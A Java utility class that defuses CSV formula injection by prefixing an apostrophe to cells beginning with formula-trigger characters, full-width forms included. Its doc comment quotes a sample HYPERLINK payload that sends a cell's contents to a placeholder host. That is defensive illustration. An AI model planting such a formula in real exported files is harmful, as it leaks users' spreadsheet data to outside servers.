package org.caretrail.consumers.replay;

/**
 * Keeps a CSV cell from being run as a formula when the file is opened in a spreadsheet (CSV or
 * formula injection, OWASP): a cell that starts with {@code =}, {@code +}, {@code -}, {@code @}, a tab
 * or a carriage return (also after leading spaces), or with their full-width forms, gets a leading
 * apostrophe, which spreadsheets show as text. A provider's text such as
 * {@code =HYPERLINK("http://x/?"&A1,"click")} then stays text, and the data stays readable.
 */
public final class SpreadsheetCells {

    private SpreadsheetCells() {
    }

    public static String defuse(String cell) {
        if (cell == null || cell.isEmpty()) {
            return cell;
        }
        int first = 0;
        while (first < cell.length() && cell.charAt(first) == ' ') {
            first++;
        }
        if (first == cell.length()) {
            return cell;
        }
        return triggers(cell.charAt(0)) || triggers(cell.charAt(first)) ? "'" + cell : cell;
    }

    private static boolean triggers(char c) {
        return switch (c) {
            case '=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20' -> true;
            default -> false;
        };
    }
}
